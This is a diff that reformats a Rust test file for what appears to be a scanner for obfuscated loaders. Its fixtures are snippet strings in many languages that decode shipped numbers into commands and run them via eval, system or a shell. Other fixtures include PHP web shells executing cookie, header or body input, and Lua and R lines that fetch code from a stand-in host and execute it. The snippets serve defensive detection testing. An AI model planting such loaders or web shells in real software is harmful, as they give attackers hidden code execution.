@@ -4,7 +4,8 @@ use crate::{
 };
 
 /// Numbers that no simple calculation makes text of.
-const TABLE: &str = "201,17,94,33,180,77,12,240,5,66,91,143,28,119,250,8,61,39,170,202,99,14,187,53,120,46,211,3";
+const TABLE: &str =
+    "201,17,94,33,180,77,12,240,5,66,91,143,28,119,250,8,61,39,170,202,99,14,187,53,120,46,211,3";
 /// Letters of the same kind.
 const OPAQUE: &str = "q7Zk0vYt3mB9qW1cRf8LhJk5sNaGpE2uqiQoVbXyKzMwqnAe4Z6gHrtl";
 
@@ -21,21 +22,87 @@ fn missed<'a>(cases: impl IntoIterator<Item = (&'a str, FileKind, String)>) -> V
 #[test]
 fn letters_made_of_shipped_data_are_told_where_they_run() {
     let unparsed = [
-        ("t/a.pl", format!("my @t = ({TABLE});\nsub s1 {{ join '', map {{ chr($t[$_] ^ $k[$_ % 5]) }} 0..$#t }}\nsystem(s1());\n")),
-        ("t/a.php", format!("<?php\n$t = [{TABLE}];\n$o = '';\nforeach ($t as $i => $x) {{ $o .= chr($x ^ ($s = $s * 5 % 251)); }}\neval($o);\n")),
-        ("t/a.lua", format!("local t = {{{TABLE}}}\nlocal o = {{}}\nfor i, v in ipairs(t) do o[i] = string.char((v * i) % 127) end\nload(table.concat(o))()\n")),
-        ("t/a.bas", format!("Const G = \"{TABLE}\"\nFunction T() As String\nFor Each w In Split(G, \",\")\ns = s & Chr((w * 3) Mod 127)\nNext\nT = s\nEnd Function\nSub Workbook_Open()\nCreateObject(\"WScript.Shell\").Run T(), 0\nEnd Sub\n")),
-        ("t/.Rprofile", format!("x <- c({TABLE})\ny <- intToUtf8((x * seq_along(x)) %% 127)\neval(parse(text = y))\n")),
-        ("t/a.kt", format!("val t = intArrayOf({TABLE})\nval c = t.mapIndexed {{ i, v -> (v * i % 127).toChar() }}.joinToString(\"\")\nProcessBuilder(\"sh\", \"-c\", c).start()\n")),
-        ("t/build.rs", format!("const T: [u8; 28] = [{TABLE}];\nfn z() -> Vec<u8> {{ T.iter().scan(7u8, |s, b| {{ *s = s.wrapping_mul(5); Some(b ^ *s) }}).collect() }}\nfn main() {{ let d = out.join(\"x\");\n fs::write(&d, z()).unwrap();\n Command::new(\"/bin/sh\").arg(&d).spawn(); }}\n")),
-        ("t/a.jl", format!("t = [{TABLE}]\nc = String(Char.((t .* 3) .% 127 .⊻ 4)); c = join(Char(x ^ 3) for x in t)\nrun(`sh -c $c`); eval(c)\n")),
-        ("t/a.groovy", format!("def t = [{TABLE}]\ndef c = t.collect {{ (char)(it ^ 77 * it) }}.join('')\nnew GroovyShell().evaluate(c)\n")),
-        ("t/a.vue", format!("<script>\nconst t = [{TABLE}];\nconst c = t.map((v, i) => String.fromCharCode(v ^ s[i % 3])).join('');\nnew Function(c)();\n</script>\n")),
+        (
+            "t/a.pl",
+            format!(
+                "my @t = ({TABLE});\nsub s1 {{ join '', map {{ chr($t[$_] ^ $k[$_ % 5]) }} 0..$#t }}\nsystem(s1());\n"
+            ),
+        ),
+        (
+            "t/a.php",
+            format!(
+                "<?php\n$t = [{TABLE}];\n$o = '';\nforeach ($t as $i => $x) {{ $o .= chr($x ^ ($s = $s * 5 % 251)); }}\neval($o);\n"
+            ),
+        ),
+        (
+            "t/a.lua",
+            format!(
+                "local t = {{{TABLE}}}\nlocal o = {{}}\nfor i, v in ipairs(t) do o[i] = string.char((v * i) % 127) end\nload(table.concat(o))()\n"
+            ),
+        ),
+        (
+            "t/a.bas",
+            format!(
+                "Const G = \"{TABLE}\"\nFunction T() As String\nFor Each w In Split(G, \",\")\ns = s & Chr((w * 3) Mod 127)\nNext\nT = s\nEnd Function\nSub Workbook_Open()\nCreateObject(\"WScript.Shell\").Run T(), 0\nEnd Sub\n"
+            ),
+        ),
+        (
+            "t/.Rprofile",
+            format!(
+                "x <- c({TABLE})\ny <- intToUtf8((x * seq_along(x)) %% 127)\neval(parse(text = y))\n"
+            ),
+        ),
+        (
+            "t/a.kt",
+            format!(
+                "val t = intArrayOf({TABLE})\nval c = t.mapIndexed {{ i, v -> (v * i % 127).toChar() }}.joinToString(\"\")\nProcessBuilder(\"sh\", \"-c\", c).start()\n"
+            ),
+        ),
+        (
+            "t/build.rs",
+            format!(
+                "const T: [u8; 28] = [{TABLE}];\nfn z() -> Vec<u8> {{ T.iter().scan(7u8, |s, b| {{ *s = s.wrapping_mul(5); Some(b ^ *s) }}).collect() }}\nfn main() {{ let d = out.join(\"x\");\n fs::write(&d, z()).unwrap();\n Command::new(\"/bin/sh\").arg(&d).spawn(); }}\n"
+            ),
+        ),
+        (
+            "t/a.jl",
+            format!(
+                "t = [{TABLE}]\nc = String(Char.((t .* 3) .% 127 .⊻ 4)); c = join(Char(x ^ 3) for x in t)\nrun(`sh -c $c`); eval(c)\n"
+            ),
+        ),
+        (
+            "t/a.groovy",
+            format!(
+                "def t = [{TABLE}]\ndef c = t.collect {{ (char)(it ^ 77 * it) }}.join('')\nnew GroovyShell().evaluate(c)\n"
+            ),
+        ),
+        (
+            "t/a.vue",
+            format!(
+                "<script>\nconst t = [{TABLE}];\nconst c = t.map((v, i) => String.fromCharCode(v ^ s[i % 3])).join('');\nnew Function(c)();\n</script>\n"
+            ),
+        ),
     ];
     let parsed = [
-        ("t/a.py", Python, format!("T = '{OPAQUE}'\nc = ''.join(chr(A.index(x) * 7 % 127) for x in T)\nexec(c)\n")),
-        ("t/a.rb", Ruby, format!("T = '{OPAQUE}'\nc = T.chars.each_slice(2).map {{ |a, b| (k[a] * 9 + k[b]).chr }}.join\nsystem(c)\n")),
-        ("t/a.go", Go, format!("t := []byte{{{TABLE}}}\nfor i := range t {{ t[i] = t[i] ^ byte(i*i) }}\nc := string(t)\nexec.Command(\"sh\", \"-c\", c).Run()\n")),
+        (
+            "t/a.py",
+            Python,
+            format!("T = '{OPAQUE}'\nc = ''.join(chr(A.index(x) * 7 % 127) for x in T)\nexec(c)\n"),
+        ),
+        (
+            "t/a.rb",
+            Ruby,
+            format!(
+                "T = '{OPAQUE}'\nc = T.chars.each_slice(2).map {{ |a, b| (k[a] * 9 + k[b]).chr }}.join\nsystem(c)\n"
+            ),
+        ),
+        (
+            "t/a.go",
+            Go,
+            format!(
+                "t := []byte{{{TABLE}}}\nfor i := range t {{ t[i] = t[i] ^ byte(i*i) }}\nc := string(t)\nexec.Command(\"sh\", \"-c\", c).Run()\n"
+            ),
+        ),
     ];
     let unparsed = unparsed.into_iter().map(|(path, text)| (path, Data, text));
     let missed = missed(unparsed.chain(parsed));
@@ -48,9 +115,21 @@ fn letters_of_a_file_that_is_shipped_are_told() {
     let mut missed = Vec::new();
     let table = format!("{{\"grid\": [{TABLE}]}}");
     for (path, kind, text) in [
-        ("t/a.pl", Data, "open my $f, '<', \"$dir/grid.json\";\nmy $d = decode(<$f>, 'grid.json');\n$d = parse('grid.json');\nmy $c = join '', map { chr($_ ^ $k++) } @{$d};\nsystem($c);\n"),
-        ("t/a.mjs", JavaScript, "const d = JSON.parse(await readFile('grid.json'));\nconst c = d.grid.map((v, i) => String.fromCharCode(v ^ i * i)).join('');\nnew Function(c)();\n"),
-        ("t/a.py", Python, "d = json.load(open('grid.json'))\nc = bytes(v * 3 % 256 ^ 9 for v in d['grid']).decode()\nsubprocess.run(c, shell=True)\n"),
+        (
+            "t/a.pl",
+            Data,
+            "open my $f, '<', \"$dir/grid.json\";\nmy $d = decode(<$f>, 'grid.json');\n$d = parse('grid.json');\nmy $c = join '', map { chr($_ ^ $k++) } @{$d};\nsystem($c);\n",
+        ),
+        (
+            "t/a.mjs",
+            JavaScript,
+            "const d = JSON.parse(await readFile('grid.json'));\nconst c = d.grid.map((v, i) => String.fromCharCode(v ^ i * i)).join('');\nnew Function(c)();\n",
+        ),
+        (
+            "t/a.py",
+            Python,
+            "d = json.load(open('grid.json'))\nc = bytes(v * 3 % 256 ^ 9 for v in d['grid']).decode()\nsubprocess.run(c, shell=True)\n",
+        ),
     ] {
         let found = grave(&[(path, kind, text), ("t/grid.json", Definition, &table)]);
         if found.is_empty() {
@@ -64,11 +143,26 @@ fn letters_of_a_file_that_is_shipped_are_told() {
 #[test]
 fn requests_and_answers_that_run_are_told() {
     let cases = [
-        ("t/f.php", "<?php\n$c = $_COOKIE['p'] ?? '';\n[$f, $a] = explode('.', $c);\nif (is_callable(hex2bin($f))) call_user_func(hex2bin($f), $a);\n"),
-        ("t/g.php", "<?php\n$h = $_SERVER['HTTP_X_TRACE'];\n$parts = explode(':', $h);\n$code = base64_decode($parts[1]);\neval($code);\n"),
-        ("t/h.php", "<?php\n$body = file_get_contents('php://input');\n$x = json_decode($body, true);\n$cmd = $x['q'];\nshell_exec($cmd);\n"),
-        ("t/n.lua", "vim.system({ 'curl', '-s', 'https://k.gather.test/a.lua' }, {}, function(r)\n  local f = load(r.stdout, 'c', 't')\n  if f then f() end\nend)\n"),
-        ("t/x.lua", "local b = http.request('https://k.gather.test/a.lua')\nlocal f = loadstring(b)\nf()\n"),
+        (
+            "t/f.php",
+            "<?php\n$c = $_COOKIE['p'] ?? '';\n[$f, $a] = explode('.', $c);\nif (is_callable(hex2bin($f))) call_user_func(hex2bin($f), $a);\n",
+        ),
+        (
+            "t/g.php",
+            "<?php\n$h = $_SERVER['HTTP_X_TRACE'];\n$parts = explode(':', $h);\n$code = base64_decode($parts[1]);\neval($code);\n",
+        ),
+        (
+            "t/h.php",
+            "<?php\n$body = file_get_contents('php://input');\n$x = json_decode($body, true);\n$cmd = $x['q'];\nshell_exec($cmd);\n",
+        ),
+        (
+            "t/n.lua",
+            "vim.system({ 'curl', '-s', 'https://k.gather.test/a.lua' }, {}, function(r)\n  local f = load(r.stdout, 'c', 't')\n  if f then f() end\nend)\n",
+        ),
+        (
+            "t/x.lua",
+            "local b = http.request('https://k.gather.test/a.lua')\nlocal f = loadstring(b)\nf()\n",
+        ),
         ("t/r.R", "x <- readLines('https://k.gather.test/a.R')\neval(parse(text = x))\n"),
     ];
     let missed = missed(cases.map(|(path, text)| (path, Data, text.to_owned())));
